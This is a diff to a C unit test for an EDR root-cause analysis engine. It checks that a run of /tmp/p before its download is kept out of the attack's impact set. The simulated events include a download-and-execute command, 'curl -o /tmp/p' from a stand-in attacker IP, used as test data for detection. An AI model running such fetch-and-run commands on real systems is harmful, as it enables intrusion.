@@ -302,6 +302,8 @@ static void test_download_execute_and_time_order(void **state)
     bld_t x;
     bld_init(&x, "ws-1");
     ev_start(&x, 10, 0, "/usr/sbin/sshd", "sshd: alice");
+    ev_start(&x, 15, 10, "/tmp/p", "/tmp/p"); /* an older /tmp/p, run before the download */
+    x.t += 10000000000ull;
     ev_start(&x, 20, 10, "/usr/bin/bash", "-bash");
     ev_start(&x, 21, 20, "/usr/bin/curl", "curl -o /tmp/p http://203.0.113.66/p");
     ev_net(&x, 21, 0, attacker, 80);
@@ -327,6 +329,13 @@ static void test_download_execute_and_time_order(void **state)
     assert_true(edr_rca_in_chain(r, node_of(&x, g, 22)));
     assert_false(edr_rca_in_chain(r, node_of(&x, g, 20))); /* the user's shell is not the attack */
     assert_false(edr_rca_in_chain(r, node_of(&x, g, 10)));
+    int run22 = 0;
+    for (size_t i = 0; i < r->n_impact; i++) {
+        if (r->impact[i].node == node_of(&x, g, 15))
+            fail_msg("a run of /tmp/p before its download is in the impact");
+        run22 |= r->impact[i].node == node_of(&x, g, 22);
+    }
+    assert_true(run22);
     edr_rca_destroy(r);
     r = edr_rca_run(g, node_of(&x, g, 30), 0, NULL, NULL);
     assert_non_null(r);
